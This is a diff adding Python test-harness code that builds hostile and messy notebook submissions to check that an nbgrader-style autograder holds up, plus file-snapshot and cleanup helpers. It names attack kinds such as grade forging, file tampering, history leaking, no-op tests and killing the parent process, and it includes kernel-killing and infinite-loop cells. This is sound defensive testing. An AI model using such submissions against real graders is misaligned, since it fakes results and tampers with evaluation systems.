+    # A scratch cell after every test cell, in case scratch cells run.
+    cells = []
+    for cell in notebook.cells:
+        cells.append(cell)
+        if cell.metadata.get("nbgrader", {}).get("grade"):
+            cells.append(nbformat.v4.new_code_cell(LEAK_HISTORY.strip()))
+    notebook.cells = cells
+    return notebook
+
+
+def tamper(release, scope):
+    return _prepend(release, "data_augmenter", toolkit(scope) + TAMPER)
+
+
+def forge(release, scope):
+    return _prepend(release, "data_augmenter", toolkit(scope) + FORGE)
+
+
+def kill_parent(release, scope):
+    notebook = _prepend(release, "data_augmenter", toolkit(scope) + KILL_PARENT)
+    return _prepend(notebook, "fine_tune", KILL_PARENT)
+
+
+HOSTILE = {
+    "noop_tests": noop_tests,
+    "fake_modules": fake_modules,
+    "ipython_hooks": ipython_hooks,
+    "gradebook": gradebook,
+    "master": master,
+    "leak": leak,
+    "classmate": classmate,
+    "tamper": tamper,
+    "forge": forge,
+    "kill_parent": kill_parent,
+}
+
+
+# --------------------------------------------------------------------------------------
+# Honest but messy notebooks (built from the solution)
+# --------------------------------------------------------------------------------------
+
+
+def chdir_scratch(solution):
+    """The solution, with a scratch cell after the first test that changes directory."""
+    notebook = copy.deepcopy(solution)
+    index = notebook.cells.index(_cell(notebook, "data_augmenter_test"))
+    scratch = nbformat.v4.new_code_cell("import os\n\nos.chdir('/')\nprint(os.listdir('.'))")
+    notebook.cells.insert(index + 1, scratch)
+    return notebook
+
+
+def duplicated_test(solution):
+    """The solution, with the learner's copy of a test cell (same nbgrader metadata)."""
+    notebook = copy.deepcopy(solution)
+    original = _cell(notebook, "alpaca_model_test")
+    twin = copy.deepcopy(original)
+    twin.pop("id", None)
+    twin["id"] = "duplicated-test"
+    notebook.cells.insert(notebook.cells.index(original) + 1, twin)
+    return notebook
+
+
+def kernel_death_after_two(solution, release):
+    """Exercises 1 and 2 solved; the fine_tune cell kills the kernel."""
+    notebook = copy.deepcopy(solution)
+    _cell(notebook, "fine_tune").source = (
+        "import os\n\nos._exit(1)\n\n\n" + _cell(release, "fine_tune").source
+    )
+    return notebook
+
+
+def hang_after_two(solution, release):
+    """Exercises 1 and 2 solved; the fine_tune cell never ends."""
+    notebook = copy.deepcopy(solution)
+    _cell(notebook, "fine_tune").source = (
+        "while True:\n    pass\n\n\n" + _cell(release, "fine_tune").source
+    )
+    return notebook
+
+
+# --------------------------------------------------------------------------------------
+# Checking and cleaning up after the attacks
+# --------------------------------------------------------------------------------------
+
+
+def snapshot(files) -> dict[str, str]:
+    """Return {path: sha256 or 'missing'} of every file given (symlinks followed)."""
+    import hashlib
+
+    digests = {}
+    for path in files:
+        path = pathlib.Path(path)
+        try:
+            digests[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+        except (FileNotFoundError, IsADirectoryError):
+            digests[str(path)] = "missing"
+    return digests
+
+
+def files_under(root, skip=lambda relative: False) -> list[pathlib.Path]:
+    """Every file under ``root`` (links followed for files, not for folders), sorted.
+
+    ``skip(relative posix path)`` leaves out a file or a whole folder.
+    """
+    root = pathlib.Path(root)
+    found = []
+    for folder, dirs, names in os.walk(root):
+        relative = pathlib.Path(folder).relative_to(root)
+        dirs[:] = sorted(d for d in dirs if not skip((relative / d).as_posix()))
+        found += [pathlib.Path(folder) / n for n in names if not skip((relative / n).as_posix())]
+    return sorted(found)
+
+
+def differences(before: dict, after: dict, ignore_new=lambda path: False) -> list[str]:
+    changed = []
+    for path in sorted(set(before) | set(after)):
+        if path not in before:
+            if not ignore_new(path):
+                changed.append(f"new: {path}")
+        elif before[path] != after.get(path, "missing"):
+            changed.append(f"{'removed' if path not in after else 'changed'}: {path}")
+    return changed
+
+
+_BLOCK = re.compile(r"\n?#? ?" + re.escape(MARK) + r"\n?")
+
+
+def clean_up(roots) -> list[str]:
+    """Remove every probe the attacks left under ``roots``; return what was found."""
+    cleaned = []
+    for root in roots:
+        root = pathlib.Path(root)
+        if not root.exists():
+            continue
+        walk = [root] if root.is_file() else None
+        for folder, dirs, names in (
+            os.walk(root) if walk is None else [(root.parent, [], [root.name])]
+        ):
+            dirs[:] = [d for d in dirs if d not in (".git", "node_modules", ".venv")]
+            for name in names:
+                path = pathlib.Path(folder) / name
+                if path.is_symlink() or not path.is_file() or path.stat().st_size > 5_000_000:
+                    continue
+                try:
+                    text = path.read_text(encoding="utf-8")
+                except (UnicodeDecodeError, OSError):
+                    continue
+                if MARK not in text:
+                    continue
+                if name.startswith(PROBE_PREFIX):
+                    path.unlink()
+                else:
+                    path.write_text(_BLOCK.sub("", text), encoding="utf-8")
+                cleaned.append(str(path))
+    return cleaned
+
+
+def python_sources(notebook) -> list[str]:
+    return [cell.source for cell in notebook.cells if cell.cell_type == "code"]
